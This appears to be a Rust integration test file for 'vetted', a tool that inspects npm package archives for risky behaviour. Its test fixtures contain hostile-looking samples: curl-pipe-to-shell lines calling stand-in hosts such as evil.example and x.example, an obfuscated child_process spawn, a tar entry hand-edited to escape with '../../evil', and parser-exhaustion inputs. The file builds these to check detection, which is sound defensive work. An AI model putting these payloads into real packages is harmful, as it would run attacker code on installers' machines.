//! `vetted inspect` through the binary: exit codes and output for benign and hostile archives.
use std::io::Write;
use std::process::Command;

fn run(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_vetted"))
        .args(args)
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn tgz(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (path, data) in entries {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o755);
        h.set_cksum();
        b.append_data(&mut h, path, *data).unwrap();
    }
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(&b.into_inner().unwrap()).unwrap();
    e.finish().unwrap()
}

#[test]
fn benign_tarball_human_and_json() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("a.bin"); // the extension does not matter: magic bytes do
    let pkg = br#"{"name":"@s/tool","version":"2.0.0","bin":{"tool":"cli.js"},
        "scripts":{"preinstall":"curl x | sh","build":"tsc"},
        "optionalDependencies":{"@s/tool-linux-x64":"2.0.0"}}"#;
    std::fs::write(
        &path,
        tgz(&[
            ("package/package.json", pkg),
            (
                "package/cli.js",
                b"#!/usr/bin/env node\nprocess.env['API_TOKEN'];\n",
            ),
            (
                "package/bin/native",
                b"\x7fELF\x02\x01\x01\0 wss://relay.example.net/x \0",
            ),
        ]),
    )
    .unwrap();
    let p = path.to_str().unwrap();
    let (code, out, err) = run(&["inspect", p]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("archive: tgz"));
    assert!(
        out.contains("lifecycle script preinstall: curl x | sh"),
        "{out}"
    );
    assert!(!out.contains("lifecycle script build"), "{out}");
    assert!(out.contains("bin tool: cli.js"));
    let (code, out, _) = run(&["inspect", "--json", p]);
    assert_eq!(code, 0);
    let j: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(j["totals"]["files"], 3);
    assert_eq!(
        j["entries"]["package/bin/native"]["signals"]["executable"],
        "elf"
    );
    assert_eq!(
        j["entries"]["package/bin/native"]["signals"]["urls"][0],
        "wss://relay.example.net/x"
    );
    // JavaScript is analysed by the parser: the env read is a behaviour, not a byte signal.
    let behaviours = j["entries"]["package/cli.js"]["behaviours"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        behaviours
            .iter()
            .any(|b| b["kind"] == "env-read" && b["value"] == "API_TOKEN"),
        "{behaviours:?}"
    );
    assert_eq!(j["entries"]["package/cli.js"]["mode"], 0o755);
    assert_eq!(
        j["package"]["dependencies"]["optionalDependencies"]["@s/tool-linux-x64"],
        "2.0.0"
    );
}

#[test]
fn hostile_archives_exit_1_naming_the_rule() {
    let dir = tempfile::tempdir().unwrap();
    // Traversal through a hand-edited GNU header name (the tar crate refuses to write "..").
    let mut t = tgz(&[("package/x", b"x")]);
    let mut raw = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::GzDecoder::new(&t[..]), &mut raw).unwrap();
    raw[..12].copy_from_slice(b"../../evil\0\0");
    let sum: u32 = raw[..512]
        .iter()
        .enumerate()
        .map(|(i, b)| {
            if (148..156).contains(&i) {
                32
            } else {
                u32::from(*b)
            }
        })
        .sum();
    raw[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(&raw).unwrap();
    t = e.finish().unwrap();
    let p = dir.path().join("evil.tgz");
    std::fs::write(&p, &t).unwrap();
    let (code, _, err) = run(&["inspect", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("archive-path-parent"), "{err}");
    // Limits from the command line.
    let p = dir.path().join("many.tgz");
    std::fs::write(
        &p,
        tgz(&[
            ("package/a", b"1"),
            ("package/b", b"2"),
            ("package/c", b"3"),
        ]),
    )
    .unwrap();
    let (code, _, err) = run(&["inspect", "--max-entries", "2", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(
        err.contains("archive-limit") && err.contains("archive entries"),
        "{err}"
    );
    let (code, _, err) = run(&["inspect", "--max-file-size", "0", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    let (code, _, err) = run(&[
        "inspect",
        "--max-unpacked",
        "2",
        "--json",
        p.to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{err}");
    // Corrupt gzip.
    let mut bad = tgz(&[("a", b"1")]);
    let n = bad.len();
    bad[n - 6] ^= 0x55;
    let p = dir.path().join("bad.tgz");
    std::fs::write(&p, &bad).unwrap();
    let (code, _, err) = run(&["inspect", p.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("archive-corrupt-gzip"), "{err}");
}

#[test]
fn missing_file_is_exit_2() {
    let (code, _, _) = run(&["inspect", "/nonexistent/dir/file.tgz"]);
    assert_eq!(code, 2);
}

#[test]
fn help_explains_the_flags() {
    let (code, out, _) = run(&["inspect", "--help"]);
    assert_eq!(code, 0);
    for flag in [
        "--json",
        "--max-entries",
        "--max-unpacked",
        "--max-file-size",
        "--registry",
        "--cache-dir",
    ] {
        assert!(out.contains(flag), "{flag} missing from --help");
    }
    let (code, out, _) = run(&["fetch", "--help"]);
    assert_eq!(code, 0);
    assert!(out.contains("--insecure-allow-http") && out.contains("--stall-timeout"));
}

#[test]
fn a_tgz_named_file_that_is_not_gzip_is_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("tool-1.0.0.tgz");
    std::fs::write(&path, b"#!/bin/sh\ncurl https://evil.example | sh\n").unwrap();
    let (code, _, err) = run(&["inspect", path.to_str().unwrap()]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("archive-format"), "{err}");
    assert!(err.contains("named as tgz"), "{err}");
    // Passing twins: a real .tgz under that name, and the same script under a plain name.
    std::fs::write(
        &path,
        tgz(&[("package/package.json", br#"{"name":"t","version":"1.0.0"}"#)]),
    )
    .unwrap();
    assert_eq!(run(&["inspect", path.to_str().unwrap()]).0, 0);
    let plain = dir.path().join("install.sh");
    std::fs::write(&plain, b"#!/bin/sh\necho hi\n").unwrap();
    assert_eq!(run(&["inspect", plain.to_str().unwrap()]).0, 0);
}

#[test]
fn an_empty_file_is_rejected() {
    let dir = tempfile::tempdir().unwrap();
    for name in ["empty.tgz", "empty"] {
        let path = dir.path().join(name);
        std::fs::write(&path, b"").unwrap();
        let (code, _, err) = run(&["inspect", path.to_str().unwrap()]);
        assert_eq!(code, 1, "{name}: {err}");
        assert!(err.contains("empty file"), "{name}: {err}");
    }
    // Passing twin: one byte is something to inspect.
    let one = dir.path().join("one");
    std::fs::write(&one, b"x").unwrap();
    assert_eq!(run(&["inspect", one.to_str().unwrap()]).0, 0);
}

/// An npm `bin` script without a JavaScript name (`bin/tool`, `#!/usr/bin/env node`) runs under
/// node all the same. It used to get only the byte scan; it is analysed as JavaScript. A shell
/// script and a text file starting with `#` are not.
#[test]
fn extensionless_node_script_is_analysed_as_javascript() {
    let evil: &[u8] = b"#!/usr/bin/env -S node --no-warnings\nconst c = require('child' + '_process');\nc.exec('curl https://x.example/i.sh | sh');\n";
    let shell: &[u8] = b"#!/bin/sh\nnode -e \"require('child_process').exec('id')\"\n";
    let text: &[u8] = b"# Notes\nrequire('child_process') is mentioned here.\n";
    let v = inspect_json(&[
        (
            "package/package.json",
            br#"{"name":"t","version":"1.0.0","bin":{"tool":"bin/tool"}}"#,
        ),
        ("package/bin/tool", evil),
        ("package/bin/helper", shell),
        ("package/NOTES", text),
    ]);
    let kinds = |p: &str| -> Vec<String> {
        v["entries"][p]["behaviours"]
            .as_array()
            .map(|a| {
                a.iter()
                    .filter_map(|b| b["kind"].as_str().map(str::to_string))
                    .collect()
            })
            .unwrap_or_default()
    };
    assert!(
        kinds("package/bin/tool").contains(&"process-spawn".to_string()),
        "{:#}",
        v["entries"]["package/bin/tool"]
    );
    assert!(v["entries"]["package/bin/tool"]["parse_error"].is_null());
    for p in ["package/bin/helper", "package/NOTES"] {
        assert!(
            !kinds(p).contains(&"process-spawn".to_string()),
            "{p}: {:#}",
            v["entries"][p]
        );
        assert!(v["entries"][p]["parse_error"].is_null(), "{p}");
    }
}

/// Found by the js_analysis fuzzer (a timeout, re-run: out of memory): 2,482 bytes of `.ts` with
/// brackets nested 1,806 deep and `<T< K extends[` made oxc's TypeScript parser take 4 GB in
/// 19 s (it re-parses ambiguous `<` speculatively and its arena keeps every attempt). A
/// TypeScript source nested deeper than `limits::TS_BRACKET_DEPTH` is not parsed and says so.
/// `vetted inspect --json` of a tgz of `files`: exit 0, the parsed report.
fn inspect_json(files: &[(&str, &[u8])]) -> serde_json::Value {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.tgz");
    std::fs::write(&path, tgz(files)).unwrap();
    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
    assert_eq!(code, 0, "{err}");
    serde_json::from_str(&out).unwrap()
}

#[test]
fn typescript_nested_to_exhaust_the_parser_is_not_parsed() {
    let ts = std::fs::read("tests/fixtures/fuzz/js_analysis-ts-nesting-oom.ts").unwrap();
    let v = inspect_json(&[
        ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
        ("package/a.ts", &ts),
        // Real TypeScript nests a few levels: analysed as before.
        (
            "package/b.ts",
            b"export function f(x: Array<[number, { a: string }]>): void { if (x) { g([x]); } }\n",
        ),
    ]);
    let pe = v["entries"]["package/a.ts"]["parse_error"]
        .as_str()
        .unwrap_or_default();
    assert!(pe.contains("nested 1806 deep"), "{pe:?}");
    assert!(v["entries"]["package/b.ts"]["parse_error"].is_null());
}

#[test]
fn typescript_of_speculative_generics_nested_to_exhaust_memory_is_not_parsed() {
    // Found by the js_analysis fuzzer (2026-12-03): 654 bytes nesting 140 deep that took oxc's
    // parser 4.8 GB in 55 s, under the first guard's limit of 256.
    let ts = std::fs::read("tests/fixtures/fuzz/js_analysis-ts-nesting-oom-2.ts").unwrap();
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.tgz");
    // Deep but real-looking TypeScript at the limit is still parsed.
    let mut ok = b"export const x = ".to_vec();
    ok.extend(std::iter::repeat_n(b'[', 64));
    ok.extend(std::iter::repeat_n(b']', 64));
    ok.extend_from_slice(b";\n");
    std::fs::write(
        &path,
        tgz(&[
            ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
            ("package/a.ts", &ts),
            ("package/b.ts", &ok),
        ]),
    )
    .unwrap();
    let (code, out, err) = run(&["inspect", path.to_str().unwrap(), "--json"]);
    assert_eq!(code, 0, "{err}");
    let v: serde_json::Value = serde_json::from_str(&out).unwrap();
    let pe = v["entries"]["package/a.ts"]["parse_error"]
        .as_str()
        .unwrap_or_default();
    assert!(pe.contains("nested 140 deep"), "{pe:?}");
    assert!(
        v["entries"]["package/b.ts"]["parse_error"].is_null(),
        "{}",
        v["entries"]["package/b.ts"]
    );
}

#[test]
fn javascript_nested_to_overflow_the_stack_does_not_abort_the_inspection() {
    // oxc's parser and the walks recurse once per level: 6,000 nested `[` (12 KB) overflowed an
    // 8 MiB stack and aborted vetted (exit 134). Now nesting up to limits::JS_NESTING is parsed
    // on stacks sized for it, and deeper code is not parsed and says so.
    let deep = |open: &str, mid: &str, close: &str, n: usize| {
        let mut s = b"x = ".to_vec();
        for _ in 0..n {
            s.extend_from_slice(open.as_bytes());
        }
        s.extend_from_slice(mid.as_bytes());
        for _ in 0..n {
            s.extend_from_slice(close.as_bytes());
        }
        s.extend_from_slice(b";\nrequire('child_process').exec(process.env.CMD);\n");
        s
    };
    let arrays = deep("[", "1", "]", 6_000);
    let conditional = deep("a ? b : ", "c", "", 20_000);
    let arrows = deep("y => ", "1", "", 20_000);
    let files: [(&str, &[u8]); 4] = [
        ("package/package.json", br#"{"name":"t","version":"1.0.0"}"#),
        ("package/arrays.js", &arrays),
        ("package/conditional.js", &conditional),
        ("package/arrows.js", &arrows),
    ];
    let v = inspect_json(&files);
    let e = &v["entries"]["package/arrays.js"];
    assert!(e["parse_error"].is_null(), "{e}");
    assert!(e["behaviours"].to_string().contains("process-spawn"), "{e}");
    for p in ["package/conditional.js", "package/arrows.js"] {
        let pe = v["entries"][p]["parse_error"].as_str().unwrap_or_default();
        assert!(pe.contains("limits::JS_NESTING"), "{p}: {pe:?}");
    }
    // A review prints both sides of a changed module: as deep, on the compare threads too.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("t.tgz");
    std::fs::write(&path, tgz(&files)).unwrap();
    let other = dir.path().join("u.tgz");
    let mut arrays2 = arrays.clone();
    arrays2.extend_from_slice(b"fetch('https://example.com/x');\n");
    std::fs::write(
        &other,
        tgz(&[
            ("package/package.json", br#"{"name":"t","version":"1.0.1"}"#),
            ("package/arrays.js", &arrays2),
        ]),
    )
    .unwrap();
    let (code, out, err) = run(&["diff", path.to_str().unwrap(), other.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("example.com"), "{out}");
    let (code, out, err) = run(&[
        "show",
        path.to_str().unwrap(),
        "package/arrays.js",
        "--pretty",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("child_process"));
}
